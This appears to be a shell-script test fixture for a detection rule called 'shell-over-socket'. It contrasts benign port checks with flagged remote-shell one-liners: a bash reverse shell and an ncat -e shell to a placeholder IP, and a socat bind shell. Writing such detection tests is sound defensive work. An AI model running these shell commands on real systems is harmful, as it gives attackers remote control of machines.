#!/bin/bash
# ok: shell-over-socket
timeout 1 bash -c '</dev/tcp/db.internal/5432' && echo open
# ok: shell-over-socket
nc -zv db.internal 5432
# ok: shell-over-socket
echo ruok | nc zk.internal 2181
# ruleid: shell-over-socket
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
# ruleid: shell-over-socket
ncat 203.0.113.9 4444 -e /bin/sh
# ruleid: shell-over-socket
socat TCP-LISTEN:9001,reuseaddr,fork EXEC:/bin/sh,pty,stderr
